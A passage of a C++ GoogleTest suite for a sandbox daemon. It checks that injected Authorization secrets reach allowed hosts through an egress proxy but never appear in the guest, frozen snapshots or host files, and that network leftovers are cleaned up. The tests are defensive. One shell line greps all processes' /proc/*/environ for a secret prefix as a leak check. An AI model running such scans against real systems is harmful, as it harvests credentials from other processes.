// only its digest, so the guest never sees it either); the sandbox's RAM,
// disk and processes' environments, frozen to a Space, hold no byte of it.
TEST_F(HostdEgress, SecretsReachTheHostButNeverTheSandbox) {
  auto http = client();
  // A prefix the guest may look for, and a random part only the host knows.
  unsigned char random[16];
  RAND_bytes(random, sizeof random);
  std::string tail;
  for (unsigned char byte : random)
    tail += "0123456789abcdef"[byte >> 4], tail += "0123456789abcdef"[byte & 15];
  const std::string secret = "Bearer sk-vesicle-test-" + tail;
  const std::string digest = sha256_hex_of(secret);
  const std::string grant = R"({"allowed.test": {"Authorization": ")" + secret + R"("}})";
  // Each host with a secret must be in the allowlist, and the allowlist
  // must be there at all; the error never quotes the value.
  for (const std::string& bad : std::vector<std::string>{
           R"({"secrets": )" + grant + "}",
           R"({"egress_allow": ["www.example.test"], "secrets": )" + grant + "}",
           R"({"egress_allow": ["allowed.test"], "secrets": {"allowed.test": {"Host": "x"}}})",
           R"({"egress_allow": ["allowed.test"], "secrets": {"allowed.test": {"A": 1}}})"}) {
    auto refused = http.request("POST", "/v1/sandboxes", bad);
    EXPECT_EQ(refused.status, 400u) << bad << " " << refused.body;
    EXPECT_TRUE(contains(refused.body, "secrets")) << refused.body;
    EXPECT_FALSE(contains(refused.body, tail)) << refused.body;
  }
  auto created = http.request(
      "POST", "/v1/sandboxes",
      R"({"egress_allow": ["allowed.test", "badcert.test"], "secrets": {"allowed.test": )"
      R"({"Authorization": ")" +
          secret + R"("}, "badcert.test": {"Authorization": ")" + secret + R"("}}})");
  ASSERT_EQ(created.status, 201u) << created.body;
  EXPECT_TRUE(contains(created.body, R"("secret_hosts":["allowed.test","badcert.test"])"))
      << created.body;
  EXPECT_FALSE(contains(created.body, tail)) << created.body;
  api::Sandbox sandbox;
  ASSERT_TRUE(google::protobuf::util::JsonStringToMessage(created.body, &sandbox).ok());
  const std::string id = sandbox.id();
  EXPECT_FALSE(contains(http.request("GET", "/v1/sandboxes/" + id).body, tail));

  // Python (the REPL), curl (bash) and Node all trust the egress CA and get
  // the header set; nothing in the guest sends it.
  const std::string want = "authorization-sha256=" + digest;
  auto python = run(id, R"PY(
import urllib.request
print(urllib.request.urlopen("https://allowed.test/auth-digest", timeout=20).read().decode().strip())
)PY");
  EXPECT_TRUE(contains(python, want)) << python;
  auto shell = exec_in(http, id,
                       "curl -sS https://allowed.test/auth-digest; node -e \""
                       "require('https').get('https://allowed.test/auth-digest', r => "
                       "r.on('data', d => process.stdout.write(d)))\"",
                       "bash");
  EXPECT_EQ(count_of(shell, want), 2u) << shell;
  // A certificate that does not name the host: the proxy refuses, says why,
  // and sends nothing.
  auto bad_cert = exec_in(http, id, "curl -sS https://badcert.test/auth-digest", "bash");
  EXPECT_TRUE(contains(bad_cert, "did not verify")) << bad_cert;
  EXPECT_FALSE(contains(bad_cert, "authorization-sha256")) << bad_cert;
  // The same host from a sandbox without the grant: no header.
  auto without = run(allow_id, "print(http('http://allowed.test/auth-digest'))");
  EXPECT_TRUE(contains(without, "authorization-sha256=none")) << without;
  // No process in the guest has it in its environment.
  auto environ = exec_in(http, id,
                         "grep -l sk-vesicle-test /proc/[0-9]*/environ 2>/dev/null | "
                         "grep -v \"/proc/$$/\" ; echo scanned",
                         "bash");
  EXPECT_EQ(environ, "scanned\n") << environ;

  // Frozen: the Space keeps the names, never the values; no file hostd
  // keeps (RAM, device state, disk, its log, its state) holds the secret.
  auto frozen = http.request("POST", "/v1/sandboxes/" + id + "/freeze", "{}");
  ASSERT_EQ(frozen.status, 200u) << frozen.body;
  api::Space space;
  ASSERT_TRUE(google::protobuf::util::JsonStringToMessage(frozen.body, &space).ok());
  EXPECT_EQ(space.secret_hosts_size(), 2) << frozen.body;
  const auto home = hostd->runtime_dir().parent_path();
  EXPECT_EQ(files_holding(home, tail), std::vector<std::string>{});
  EXPECT_EQ(files_holding(hostd->shm_dir(), tail), std::vector<std::string>{});
  EXPECT_FALSE(files_holding(home, "secret_host allowed.test").empty())
      << "the Space's record should name the host";
  // The control: what the guest did hold (the digest it printed, in its
  // REPL's memory) is found by the same scan.
  EXPECT_FALSE(files_holding(home, want).empty()) << "the scan does not see the guest's RAM";

  // A resume must give the secrets again, for exactly those hosts.
  const std::string resume = "/v1/spaces/" + space.space_id() + "/resume";
  auto missing = http.request("POST", resume, "{}");
  EXPECT_EQ(missing.status, 400u) << missing.body;
  EXPECT_TRUE(contains(missing.body, "allowed.test, badcert.test")) << missing.body;
  auto resumed = http.request("POST", resume,
                              R"({"secrets": {"allowed.test": {"Authorization": ")" + secret +
                                  R"("}, "badcert.test": {"Authorization": "x"}}})");
  ASSERT_EQ(resumed.status, 201u) << resumed.body;
  api::Sandbox back;
  ASSERT_TRUE(google::protobuf::util::JsonStringToMessage(resumed.body, &back).ok());
  auto again = run(back.id(), R"PY(
print(urllib.request.urlopen("https://allowed.test/auth-digest", timeout=20).read().decode().strip())
)PY");
  EXPECT_TRUE(contains(again, want)) << again;
  // Its fork child keeps the grant.
  auto forked = http.request("POST", "/v1/sandboxes/" + back.id() + "/fork", R"({"n": 1})");
  ASSERT_EQ(forked.status, 201u) << forked.body;
  api::ForkResponse children;
  ASSERT_TRUE(google::protobuf::util::JsonStringToMessage(forked.body, &children).ok());
  ASSERT_EQ(children.children_size(), 1);
  auto child =
      exec_in(http, children.children(0).id(), "curl -sS https://allowed.test/auth-digest", "bash");
  EXPECT_TRUE(contains(child, want)) << child;
  for (const auto& gone : {children.children(0).id(), back.id(), id})
    EXPECT_EQ(http.request("DELETE", "/v1/sandboxes/" + gone).status, 204u) << gone;
  EXPECT_EQ(files_holding(home, tail), std::vector<std::string>{});
}

TEST_F(HostdEgress, HostdRaisedItsOpenFileLimit) {
  std::ifstream limits("/proc/" + std::to_string(hostd->pid()) + "/limits");
  std::string line;
  unsigned long long soft = 0, hard = 0;
  while (std::getline(limits, line)) {
    if (line.rfind("Max open files", 0) == 0)
      std::sscanf(line.c_str() + 14, "%llu %llu", &soft, &hard);
  }
  EXPECT_GT(soft, 1024u) << "hostd started with 1024";
  EXPECT_EQ(soft, hard);
  EXPECT_GE(hard, started_with_hard_limit);
}

// A hostd killed with SIGKILL leaves its slots' namespaces, host link, rules
// and tables; the next hostd with the same network section removes them
// before it serves, and leaves nothing itself when it stops.
TEST(HostdNetworkRestart, LeftoversOfAKilledHostdAreReclaimedAtStart) {
  if (geteuid() != 0) GTEST_SKIP() << "needs root (network namespaces)";
  if (auto why = missing_images_reason(); !why.empty()) GTEST_SKIP() << why;
  BridgeConfig bridge;
  bridge.prefix = "vk";
  bridge.transit = Cidr{Ipv4{uint32_t{10} << 24 | uint32_t{226} << 16}, 16};
  bridge.route_table = 1226;
  bridge.rule_priority = 7452;
  (void)BridgeManager::reclaim_leftovers(bridge);
  HostdOptions options;
  options.binary = HOSTD_BINARY;
  options.images_dir = images_dir();
  options.max_sandboxes = 1;
  options.memory_mib = 384;
  // No uplink: only egress off, which still gets a slot (and a NIC).
  options.network_json = R"({"prefix": "vk", "transit": ")" + bridge.transit.str() +
                         R"(", "route_table": 1226, "rule_priority": 7452})";
  {
    HostdProcess first(options);
    HttpClient http("127.0.0.1", first.port(), first.key());
    auto created = http.request("POST", "/v1/sandboxes", "{}");
    ASSERT_EQ(created.status, 201u) << created.body << first.log();
    EXPECT_TRUE(contains(created.body, R"("egress_mode":"off")")) << created.body;
    auto open = http.request("POST", "/v1/sandboxes", R"({"egress": true})");
    EXPECT_EQ(open.status, 400u) << open.body;
    EXPECT_TRUE(contains(open.body, "network.uplink")) << open.body;
    ::kill(first.pid(), SIGKILL);
    first.stop();
    auto left = BridgeManager::find_leftovers(bridge);
    ASSERT_TRUE(left);
    EXPECT_FALSE(left->netns.empty()) << "a killed hostd should have left its slot";
  }
  {
    HostdProcess second(options);
    EXPECT_TRUE(contains(second.log(), "removed network leftovers")) << second.log();
    // hostd handles SIGTERM once it serves (main.cpp sets the handler up
    // just after printing its address): wait for one answer first.
    HttpClient http("127.0.0.1", second.port(), second.key());
    EXPECT_EQ(http.request("GET", "/v1/healthz").status, 200u);
    EXPECT_EQ(second.stop(), 0) << second.log();
  }
  auto left = BridgeManager::find_leftovers(bridge);
  ASSERT_TRUE(left);
  EXPECT_TRUE(left->empty()) << left->describe();
  (void)BridgeManager::reclaim_leftovers(bridge);
}

} // namespace
} // namespace vesicle::net
